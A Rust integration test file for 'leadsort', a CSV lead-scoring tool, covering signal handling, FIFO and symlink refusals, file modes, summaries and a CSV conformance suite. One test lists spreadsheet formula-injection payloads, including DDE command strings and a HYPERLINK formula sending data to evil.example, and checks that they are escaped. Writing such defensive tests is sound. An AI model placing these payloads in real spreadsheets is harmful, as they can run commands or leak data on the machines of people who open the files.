        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(300));
    signal(&child, "HUP");
    std::thread::sleep(Duration::from_millis(300));
    assert!(child.try_wait().unwrap().is_none(), "stopped by the hangup");
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(env.read("contacts.csv").as_bytes())
        .unwrap();
    drop(stdin);
    assert_ok(&wait_within(child, "nohup"));
    assert!(env.read("new.csv").lines().count() > 1);
}

#[cfg(unix)]
#[test]
fn a_second_signal_ends_a_run_waiting_for_rows_at_once() {
    // Rows stop coming down the pipe mid-file: the first signal sets the flag the work loop
    // checks between chunks, but the read waits on. The second ends the run.
    let env = Env::standard();
    let before = previous_outputs(&env);
    let dir = env.path("out");
    let mut child = std_classify(&env)
        .args(["--split", "out", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // More rows than fill a chunk, then the pipe stays open.
    let mut stdin = child.stdin.take().unwrap();
    let rows = big_contacts(40_000);
    let writer = std::thread::spawn(move || {
        stdin.write_all(rows.as_bytes()).unwrap();
        stdin
    });
    assert!(
        wait_for_new_temp(&mut child, &dir, &BTreeSet::new()),
        "ended early"
    );
    let stdin = writer.join().unwrap();
    // Every row read and written: the temp files stop growing while the run waits for more.
    let size = || -> u64 {
        (temp_files(&dir).iter())
            .map(|t| std::fs::metadata(dir.join(t)).map_or(0, |m| m.len()))
            .sum()
    };
    let mut last = (size(), 0);
    while last.1 < 3 {
        std::thread::sleep(Duration::from_millis(100));
        let now = size();
        last = (now, if now == last.0 { last.1 + 1 } else { 0 });
    }
    signal(&child, "TERM");
    std::thread::sleep(Duration::from_millis(200));
    signal(&child, "TERM");
    let status = exited_soon(&mut child, "waiting for rows, after the second signal");
    drop(stdin);
    assert_eq!(status.code(), Some(143));
    // The old outputs are as they were; the temp files left, as by `kill -9`, go with the
    // next run.
    let left = temp_files(&dir);
    assert!(!left.is_empty());
    for (name, content) in &before {
        assert_eq!(&std::fs::read(dir.join(name)).unwrap(), content, "{name}");
    }
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "contacts.csv"],
    )));
    assert_no_temp_files(&dir);
}

/// Run `cmd` with `fault` (a `slow-` step of `LEADSORT_FAULT`), send `signals` SIGTERMs once
/// `ready` says the run is at that step, and return how it ended.
#[cfg(unix)]
pub(crate) fn signal_at(
    env: &Env,
    mut cmd: std::process::Command,
    fault: &str,
    ready: impl Fn(&Env) -> bool,
    signals: usize,
) -> Output {
    let mut child = cmd
        .env("LEADSORT_FAULT", fault)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    poll(&mut child, Duration::from_secs(60), fault, |c| {
        assert!(c.try_wait().unwrap().is_none(), "{fault}: ended early");
        ready(env).then_some(())
    });
    for _ in 0..signals {
        signal(&child, "TERM");
        std::thread::sleep(Duration::from_millis(100));
    }
    wait_within(child, fault)
}

/// classify to `-o out.csv --summary sum.json` over old files, signalled as `signal_at` says.
#[cfg(unix)]
fn classify_signalled_at(
    env: &Env,
    fault: &str,
    ready: impl Fn(&Env) -> bool,
    signals: usize,
) -> Output {
    env.write("out.csv", "old\n");
    env.write("sum.json", "old\n");
    let mut cmd = std_classify(env);
    cmd.args(["-o", "out.csv", "--summary", "sum.json", "contacts.csv"]);
    signal_at(env, cmd, fault, ready, signals)
}

/// For `signal_at` with a `slow-sync` fault: the run's temp files have been there 300 ms.
/// The rows of contacts.csv take milliseconds; the sync waits a second.
#[cfg(unix)]
fn syncing() -> impl Fn(&Env) -> bool {
    let seen = std::cell::OnceCell::new();
    move |env: &Env| {
        if temp_files(env.root()).is_empty() {
            return false;
        }
        let since: Instant = *seen.get_or_init(Instant::now);
        since.elapsed() > Duration::from_millis(300)
    }
}

#[cfg(unix)]
#[test]
fn a_signal_after_rows_went_to_stdout_says_to_discard_them() {
    let env = Env::standard();
    env.write("sum.json", "old\n");
    let mut cmd = std_classify(&env);
    cmd.args(["--summary", "sum.json", "contacts.csv"]);
    let out = signal_at(&env, cmd, "slow-sync@sum.json", syncing(), 1);
    assert_error(
        &out,
        143,
        &[
            "stopped by signal 15 before finishing",
            "but rows went to stdout as they were scored: discard them",
        ],
    );
    assert_eq!(env.read("sum.json"), "old\n");
    assert_no_temp_files(env.root());
}

#[cfg(unix)]
#[test]
fn a_signal_while_the_outputs_are_finished_stops_the_run_before_any_rename() {
    // The files are written and being synced: the signal is seen before the renames.
    let env = Env::standard();
    let out = classify_signalled_at(&env, "slow-sync@out.csv", syncing(), 1);
    assert_error(&out, 143, &["stopped by signal 15 before finishing"]);
    assert_eq!(env.read("out.csv"), "old\n");
    assert_eq!(env.read("sum.json"), "old\n");
    assert_no_temp_files(env.root());
}

#[cfg(unix)]
#[test]
fn signals_during_the_renames_wait_for_them() {
    // out.csv is renamed, the summary not yet: two signals, and neither may leave the one new
    // and the other old.
    let env = Env::standard();
    let renamed = |env: &Env| env.read("out.csv") != "old\n";
    let out = classify_signalled_at(&env, "slow-rename@sum.json", renamed, 2);
    assert_ok(&out);
    assert!(env.read("sum.json").contains("\"as_of\""));
    assert_no_temp_files(env.root());
}

#[cfg(unix)]
#[test]
fn signals_during_a_reports_renames_wait_for_them() {
    // The page is renamed, the text report not yet.
    let env = Env::standard();
    env.write("r.html", "old\n");
    env.write("r.txt", "old\n");
    let mut cmd = std_leadsort(&env);
    cmd.args([
        "report",
        "--as-of",
        "2026-11-27",
        "--html",
        "r.html",
        "-o",
        "r.txt",
    ])
    .arg("contacts.csv");
    let renamed = |env: &Env| env.read("r.html") != "old\n";
    let out = signal_at(&env, cmd, "slow-rename@r.txt", renamed, 2);
    assert_ok(&out);
    assert_ne!(env.read("r.txt"), "old\n");
    assert_no_temp_files(env.root());
}

/// `diff` of `RULES` against rules where a demo is worth 100 points: every contact who asked
/// for one moves to hot. The format, output and input come after.
#[cfg(unix)]
fn std_diff(env: &Env) -> std::process::Command {
    env.write("new.toml", RULES.replacen("points = 30", "points = 100", 1));
    let mut cmd = std_leadsort(env);
    cmd.args(["diff", "--as-of", "2026-11-27", "--old", "rules.toml"])
        .args(["--new", "new.toml"]);
    cmd
}

/// `std_diff` with `--format csv -o changes.csv` over an old changes.csv. The input comes
/// last.
#[cfg(unix)]
fn diff_to_changes(env: &Env) -> std::process::Command {
    env.write("changes.csv", "old\n");
    let mut cmd = std_diff(env);
    cmd.args(["--format", "csv", "-o", "changes.csv"]);
    cmd
}

#[cfg(unix)]
#[test]
fn a_signal_while_diff_syncs_its_file_leaves_the_old_one() {
    let env = Env::standard();
    let mut cmd = diff_to_changes(&env);
    cmd.arg("contacts.csv");
    let out = signal_at(&env, cmd, "slow-sync@changes.csv", syncing(), 1);
    assert_error(&out, 143, &["stopped by signal 15 before finishing"]);
    assert_eq!(env.read("changes.csv"), "old\n");
    assert_no_temp_files(env.root());
}

#[cfg(unix)]
#[test]
fn a_signal_stops_diff_at_the_next_contact() {
    // Every write of the changes waits a second: some 30 of them, were the run to go on.
    let env = Env::standard();
    env.write("big.csv", big_contacts(40_000));
    let mut cmd = diff_to_changes(&env);
    cmd.arg("big.csv");
    let writing = |env: &Env| !temp_files(env.root()).is_empty();
    let started = Instant::now();
    let out = signal_at(&env, cmd, "slow-write@changes.csv", writing, 1);
    assert_error(&out, 143, &["stopped by signal 15 before finishing"]);
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "stopped after {:?}",
        started.elapsed()
    );
    assert_eq!(env.read("changes.csv"), "old\n");
    assert_no_temp_files(env.root());
}

#[cfg(unix)]
#[test]
fn a_signal_while_diffs_report_goes_to_stdout_says_to_discard_it() {
    use std::io::Read as _;
    let env = Env::standard();
    env.write("big.csv", big_contacts(40_000));
    let mut child = std_diff(&env)
        .args(["--format", "json", "big.csv"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // The report has begun: the pipe fills and the rest waits for this test to read it.
    let mut stdout = child.stdout.take().unwrap();
    let mut report = vec![0; 1];
    stdout.read_exact(&mut report).unwrap();
    signal(&child, "TERM");
    std::thread::sleep(Duration::from_millis(100));
    stdout.read_to_end(&mut report).unwrap();
    assert!(report.len() > 1 << 20, "{} bytes", report.len());
    let out = wait_within(child, "diff to stdout");
    assert_error(
        &out,
        143,
        &[
            "stopped by signal 15 before finishing",
            "but the report went to stdout: discard it",
        ],
    );
}

/// A --split folder's files appear whole, together: a FIFO in the place of one (which would
/// wait for a reader, lock held, or take rows as they come) is refused before anything is
/// written.
#[cfg(unix)]
#[test]
fn a_fifo_in_a_split_folder_is_refused() {
    let env = Env::standard();
    std::fs::create_dir(env.path("out")).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(env.path("out/sales.csv"))
        .status();
    assert!(made.unwrap().success());
    let out = run(&mut classify(&env, &["--split", "out", "contacts.csv"]));
    assert_error(
        &out,
        73,
        &["cannot create out/sales.csv", "is a FIFO or a device"],
    );
    assert_no_temp_files(&env.path("out"));
}

/// A FIFO as the lock would block its open forever: refused.
#[cfg(unix)]
#[test]
fn a_fifo_as_the_lock_is_refused() {
    let env = Env::standard();
    let made = std::process::Command::new("mkfifo")
        .arg(env.path("run.lock"))
        .status();
    assert!(made.unwrap().success());
    let out = run(&mut classify(&env, &["--lock", "run.lock", "contacts.csv"]));
    assert_error(&out, 73, &["run.lock", "is a FIFO or a device"]);
}

/// A link in the lock's place would have the lock file created where it points, outside
/// the folder: refused, as links are for outputs.
#[cfg(unix)]
#[test]
fn a_symbolic_link_as_the_lock_is_refused() {
    let env = Env::standard();
    std::fs::create_dir(env.path("out")).unwrap();
    std::os::unix::fs::symlink("../elsewhere.lock", env.path("out/.leadsort.lock")).unwrap();
    let out = run(&mut classify(&env, &["--split", "out", "contacts.csv"]));
    assert_error(&out, 73, &[".leadsort.lock", "is a symbolic link"]);
    assert!(!env.exists("elsewhere.lock"));
    assert_eq!(
        env.files(),
        ["contacts.csv", "out/.leadsort.lock", "rules.toml"],
        "the link is left as it was, and nothing else is written"
    );
}

#[cfg(unix)]
#[test]
fn a_signal_after_rows_went_to_a_fifo_says_to_discard_them() {
    let env = Env::standard();
    env.write("sum.json", "old\n");
    let fifo = env.path("rows.fifo");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status();
    assert!(made.unwrap().success());
    let reader = std::thread::spawn(move || std::fs::read(fifo).unwrap());
    let mut cmd = std_classify(&env);
    cmd.args(["-o", "rows.fifo", "--summary", "sum.json", "contacts.csv"]);
    let out = signal_at(&env, cmd, "slow-sync@sum.json", syncing(), 1);
    assert_error(
        &out,
        143,
        &[
            "stopped by signal 15 before finishing",
            "but rows went to rows.fifo as they were scored: discard them",
        ],
    );
    assert!(
        String::from_utf8(reader.join().unwrap())
            .unwrap()
            .starts_with(OUT_HEADER)
    );
    assert_eq!(env.read("sum.json"), "old\n");
    assert_no_temp_files(env.root());
}

#[cfg(unix)]
#[test]
fn a_signal_while_a_fifo_waits_for_its_reader_stops_the_run() {
    // Nobody reads rows.fifo: opening it waits, once the summary's temp file exists.
    let env = Env::standard();
    env.write("sum.json", "old\n");
    let made = std::process::Command::new("mkfifo")
        .arg(env.path("rows.fifo"))
        .status();
    assert!(made.unwrap().success());
    let mut cmd = std_classify(&env);
    cmd.args(["-o", "rows.fifo", "--summary", "sum.json", "contacts.csv"]);
    let waiting = |env: &Env| !temp_files(env.root()).is_empty();
    let out = signal_at(&env, cmd, "none", waiting, 1);
    assert_error(&out, 143, &["stopped by signal 15 before finishing"]);
    assert_eq!(env.read("sum.json"), "old\n");
    assert_no_temp_files(env.root());
}

// ---- symlinks, file modes, the summary ----------------------------------------------------

#[cfg(unix)]
#[test]
fn a_symlinked_output_path_is_refused_with_73_and_its_target_untouched() {
    let env = Env::standard();
    env.write("target.csv", "precious\n");
    previous_outputs(&env);
    // A queue file of --split that is a link.
    std::fs::remove_file(env.path("out/sales.csv")).unwrap();
    std::os::unix::fs::symlink("../target.csv", env.path("out/sales.csv")).unwrap();
    let linked = snapshot(&env.path("out"));
    let out = run(&mut classify(&env, &["--split", "out", "contacts.csv"]));
    assert_error(
        &out,
        73,
        &[
            "cannot create out/sales.csv: is a symbolic link",
            "does not write through links",
        ],
    );
    assert_eq!(env.read("target.csv"), "precious\n");
    assert_unchanged(&env.path("out"), &linked, "a linked queue file");
    assert_eq!(
        std::fs::read_link(env.path("out/sales.csv")).unwrap(),
        Path::new("../target.csv")
    );

    // -o, --rejected and --summary that are links.
    for flag in ["-o", "--rejected", "--summary"] {
        let link = env.path("link.out");
        let _ = std::fs::remove_file(&link);
        std::os::unix::fs::symlink("target.csv", &link).unwrap();
        let out = run(&mut classify(&env, &[flag, "link.out", "contacts.csv"]));
        assert_error(&out, 73, &["cannot create link.out: is a symbolic link"]);
        assert_eq!(env.read("target.csv"), "precious\n", "{flag}");
        assert!(
            std::fs::symlink_metadata(&link)
                .unwrap()
                .file_type()
                .is_symlink()
        );
        assert_no_temp_files(env.root());
    }
}

#[cfg(unix)]
#[test]
fn file_mode_is_honoured_for_every_output_and_the_default_is_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let env = Env::standard();
    for (dir, args, want) in [
        ("default", &[][..], 0o600),
        ("shared", &["--file-mode", "644"][..], 0o644),
        ("group", &["--file-mode", "0640"][..], 0o640),
    ] {
        std::fs::create_dir(env.path(dir)).unwrap();
        assert_ok(&run(classify(&env, args).args([
            "--split",
            dir,
            "contacts.csv",
        ])));
        for name in SPLIT_FILES.iter().filter(|n| !n.starts_with('.')) {
            assert_eq!(mode(&env.path(dir).join(name)), want, "{dir}/{name}");
        }
        // Replacing existing files gives them the mode too.
        assert_ok(&run(classify(&env, args).args([
            "--split",
            dir,
            "contacts.csv",
        ])));
        assert_eq!(mode(&env.path(dir).join("sales.csv")), want, "{dir} again");
    }
    assert_ok(&run(&mut classify(
        &env,
        &[
            "--file-mode",
            "644",
            "-o",
            "o.csv",
            "--rejected",
            "r.csv",
            "--summary",
            "s.json",
            "contacts.csv",
        ],
    )));
    for f in ["o.csv", "r.csv", "s.json"] {
        assert_eq!(mode(&env.path(f)), 0o644, "{f}");
    }
    let out = run(&mut classify(&env, &["--file-mode", "999", "contacts.csv"]));
    assert_error(&out, 2, &["--file-mode"]);
}

#[test]
fn summary_records_version_hashes_as_of_and_counts_that_add_up_and_is_reproducible() {
    let env = with_fixture("ragged.csv");
    assert_ok(&run(&mut classify(&env, &["--split", "out", "ragged.csv"])));
    let dir = env.path("out");
    let s = json(&dir.join("summary.json"));
    assert_eq!(s["leadsort_version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(s["input"], "ragged.csv");
    assert_eq!(
        s["input_sha256"].as_str(),
        Some(python_sha256(&env.path("ragged.csv")).as_str())
    );
    assert_eq!(s["rules"], "rules.toml");
    assert_eq!(
        s["rules_sha256"].as_str(),
        Some(python_sha256(&env.path("rules.toml")).as_str())
    );
    assert_eq!(s["as_of"], "2026-11-27");
    assert_counts_add_up(&s, 8);
    assert_eq!(s["contacts"], 6);
    assert_eq!(s["rejected"], 2);
    assert_eq!(
        s["queues"],
        serde_json::json!({"sales": 2, "marketing": 3, "suppressed": 1})
    );

    // Promise 6: with --as-of, every file is byte-identical run after run.
    let first = snapshot(&dir);
    assert_ok(&run(&mut classify(&env, &["--split", "out", "ragged.csv"])));
    assert_unchanged(&dir, &first, "a second identical run");
}

#[test]
fn usage_errors_are_prefixed_on_every_line() {
    // Issue 4: errors on stderr, one line each, prefixed `leadsort:` (cron mails them).
    let env = Env::standard();
    let out = run(&mut classify(
        &env,
        &["--max-record-size", "lots", "contacts.csv"],
    ));
    let err = assert_error(&out, 2, &["--max-record-size", "lots"]);
    for line in err.lines() {
        assert!(
            line.starts_with("leadsort:"),
            "unprefixed line {line:?} in\n{err}"
        );
    }
}

// ---- formulas (promise 5) ---------------------------------------------------------------

#[test]
fn known_formula_injection_payloads_are_escaped_in_every_output() {
    let payloads = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ];
    let env = Env::standard();
    let mut csv = format!("{HEADER}\n");
    for (i, p) in payloads.iter().enumerate() {
        writeln!(
            csv,
            "{},p{i}@acme.com,\"{}\",10,no,no,",
            i + 1,
            p.replace('"', "\"\"")
        )
        .unwrap();
    }
    csv.push_str("=1+1,x\n"); // a rejected row whose raw text starts with a formula
    env.write("evil.csv", &csv);
    std::fs::create_dir(env.path("out")).unwrap();
    assert_ok(&run(&mut classify(&env, &["--split", "out", "evil.csv"])));
    let text = std::fs::read_to_string(env.path("out/marketing.csv")).unwrap();
    let titles = util::column(&text, "Job Title");
    let want: Vec<String> = payloads.iter().map(|p| format!("'{p}")).collect();
    assert_eq!(titles, want);
    let rejected = rejected_rows(&env.path("out/rejected.csv"));
    assert_eq!(rejected[0].raw, b"'=1+1,x");
}

// ---- the conformance suite --------------------------------------------------------------

/// csv-spectrum 2.0.0's json/location_coordinates.json gives the phone number 1234567890 where
/// its CSV has 2095257564: the expectation is wrong upstream, not the reading (the Python oracle
/// agrees with leadsort on that cell).
const UPSTREAM_MISTAKE: (&str, &str) = ("location_coordinates.csv", "Contact Phone Number");

fn conformance_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/conformance")
}

/// Check one file against the oracle's reading; `Err` says what is wrong.
fn check_conformance(entry: &serde_json::Value) -> Result<String, String> {
    let path = PathBuf::from(entry["file"].as_str().unwrap());
    let name = path.file_name().unwrap().to_string_lossy().into_owned();
    let env = Env::new();
    env.write(&name, std::fs::read(&path).unwrap());
    let header: Vec<String> = entry["header"]
        .as_array()
        .map(|h| h.iter().map(|v| v.as_str().unwrap().to_string()).collect())
        .unwrap_or_default();
    // `present` on the first column, when it has a usable name; else a rule for everyone.
    let first = header
        .first()
        .filter(|h| !h.trim().is_empty() && header.iter().filter(|x| x == h).count() == 1);
    let rule = match first {
        Some(h) => format!("when = {{ field = {}, present = true }}\n", toml_string(h)),
        None => String::new(),
    };
    env.write(
        "rules.toml",
        format!("version = 1\n[tiers]\nwarm = 1\n[[rule]]\nname = \"First\"\n{rule}points = 1\n"),
    );
    let out = run(&mut classify(
        &env,
        &[
            "--no-escape-formulas",
            "-o",
            "out.csv",
            "--rejected",
            "rejected.csv",
            "--summary",
            "summary.json",
            &name,
        ],
    ));
    let err = stderr(&out);
    let code = out.status.code();
    if matches!(code, None | Some(70) | Some(101)) || err.contains("panicked") {
        return Err(format!("crashed ({:?}): {err}", out.status));
    }
    if entry["workbook"].as_bool() == Some(true) {
        // The oracle cannot read workbooks: their cells are compared with csvkit's own
        // conversions in `workbook_input.rs`. Here: read, without a crash or a rejected row.
        if code != Some(0) || !env.exists("out.csv") {
            return Err(format!("a workbook, not read: exit {code:?}: {err}"));
        }
        let rejected = rejected_rows(&env.path("rejected.csv")).len();
        if rejected != 0 {
            return Err(format!("a workbook with {rejected} rejected rows"));
        }
        return Ok("a workbook, read".into());
    }
    if let Some(why) = entry["refuse"]
        .as_str()
        .or(entry["empty"].as_bool().map(|_| "empty"))
    {
        if code != Some(65) || !err.starts_with("leadsort: error: ") || !err.contains(&name) {
            return Err(format!(
                "expected exit 65 naming the file ({why}), got {code:?}: {err}"
            ));
        }
        if env.exists("out.csv") {
            return Err("an output was written for a refused file".into());
        }
        return Ok(format!("refused (65): {why}"));
    }
    let records = entry["records"].as_array().unwrap();
    // Not one row readable: the run replaces nothing (exit 65).
    if !records.is_empty() && records.iter().all(|r| r["ok"] == false) {
        if code != Some(65) || !err.contains("could be read (the first, line") {
            return Err(format!(
                "every row bad: expected exit 65, got {code:?}: {err}"
            ));
        }
        if env.exists("out.csv") {
            return Err("an output was written though no row could be read".into());
        }
        return Ok(format!("refused (65): all {} rows bad", records.len()));
    }
    if code != Some(0) {
        return Err(format!("exit {code:?}: {err}"));
    }
    let good: Vec<Vec<String>> = records
        .iter()
        .filter(|r| r["ok"].as_bool().unwrap())
        .map(|r| {
            r["fields"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| f.as_str().unwrap().to_string())
                .collect()
        })
        .collect();
    let bad: Vec<u64> = records
        .iter()
        .enumerate()
        .filter(|(_, r)| !r["ok"].as_bool().unwrap())
        .map(|(i, _)| i as u64 + 1)
        .collect();
    let s = json(&env.path("summary.json"));
    let counts = (
        s["rows"].as_u64(),
        s["contacts"].as_u64(),
        s["rejected"].as_u64(),
    );
    let want = (
        Some(records.len() as u64),
        Some(good.len() as u64),
        Some(bad.len() as u64),
    );
    if counts != want {
        return Err(format!(
            "rows/contacts/rejected {counts:?}, the oracle counts {want:?}"
        ));
    }
    // The contacts, field by field, in order.
    let scored = util::rows(&env.read("out.csv"));
    if scored.iter().any(|r| r.len() < header.len()) {
        return Err(format!(
            "an output row is shorter than the header: {scored:?}"
        ));
    }
    if scored[0][..header.len()] != header[..] {
        return Err(format!(
            "header {:?}, the oracle reads {header:?}",
            scored[0]
        ));
    }
    let got: Vec<Vec<String>> = scored[1..]
        .iter()
        .map(|r| r[..header.len()].to_vec())
        .collect();
    if got != good {
        return Err(format!("contacts {got:?}, the oracle reads {good:?}"));
    }
    // Each bad record rejected, by number, with a reason.
    let rejected: Vec<u64> = rejected_rows(&env.path("rejected.csv"))
        .iter()
        .map(|r| r.record)
        .collect();
    if rejected != bad {
        return Err(format!(
            "rejected records {rejected:?}, the oracle finds {bad:?} bad"
        ));
    }
    // csv-spectrum ships the expected reading as JSON: compare as strings.
    let expected = path
        .parent()
        .and_then(Path::parent)
        .map(|p| p.join("json").join(name.replace(".csv", ".json")));
    if let Some(expected) = expected.filter(|p| p.exists()) {
        let objects = match json(&expected) {
            serde_json::Value::Array(a) => a,
            // location_coordinates.json holds the one object without an array around it.
            object => vec![object],
        };
        if objects.len() != got.len() {
            return Err(format!(
                "{} contacts, {} in {expected:?}",
                got.len(),
                objects.len()
            ));
        }
        for (row, object) in got.iter().zip(objects) {
            for (key, value) in object.as_object().unwrap() {
                if (name.as_str(), key.as_str()) == UPSTREAM_MISTAKE {
                    continue;
                }
                let i = header
                    .iter()
                    .position(|h| h == key)
                    .ok_or(format!("no column {key}"))?;
                let value = value
                    .as_str()
                    .map_or_else(|| value.to_string(), str::to_string);
                if row[i] != value {
                    return Err(format!(
                        "{key}: {:?}, csv-spectrum expects {value:?}",
                        row[i]
                    ));
                }
            }
        }
        return Ok(format!("{} contacts as csv-spectrum expects", got.len()));
    }
    Ok(format!("{} contacts, {} rejected", good.len(), bad.len()))
}

#[test]
fn conformance_files_are_read_correctly_or_their_bad_rows_rejected() {
    let base = conformance_dir();
    let mut files: Vec<PathBuf> = ["csv-spectrum/csvs", "csvkit/examples"]
        .iter()
        .flat_map(|d| {
            std::fs::read_dir(base.join(d))
                .unwrap()
                .flatten()
                .map(|e| e.path())
        })
        .filter(|p| p.is_file())
        .collect();
    files.sort();
    let oracle_py = base.join("oracle.py");
    let mut args: Vec<&std::ffi::OsStr> = vec![oracle_py.as_os_str()];
    args.extend(files.iter().map(|p| p.as_os_str()));
    let oracle: serde_json::Value = serde_json::from_str(&python3(&args)).unwrap();
    let entries = oracle.as_array().unwrap();
    assert_eq!(entries.len(), files.len());
    assert!(entries.len() >= 80, "the vendored suites are there");
    let mut failures = Vec::new();
    let mut refused = 0;
    let mut workbooks = 0;
    for entry in entries {
        let file = entry["file"].as_str().unwrap();
        let short = file.strip_prefix(base.to_str().unwrap()).unwrap_or(file);
        match check_conformance(entry) {
            Ok(what) => {
                refused += usize::from(what.starts_with("refused"));
                workbooks += usize::from(what.starts_with("a workbook"));
                eprintln!("ok   {short}: {what}");
            }
            Err(why) => failures.push(format!("FAIL {short}: {why}")),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(refused >= 3, "the binary files are in the suite");
    assert_eq!(workbooks, 2, "csvkit's dummy.xlsx and test.xls");
}
